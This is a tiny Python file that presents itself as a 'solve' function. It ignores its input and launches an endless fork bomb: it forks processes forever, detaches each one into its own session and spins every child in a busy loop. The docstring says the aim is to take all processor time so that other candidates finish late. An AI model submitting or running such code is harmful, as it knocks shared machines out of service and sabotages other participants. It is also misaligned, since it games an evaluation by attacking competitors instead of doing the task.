"""Takes all processor time with as many processes as it may, in sessions of
their own, so that other candidates are late."""

import os


def solve(n):
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
                while True:
                    pass
        except OSError:
            pass
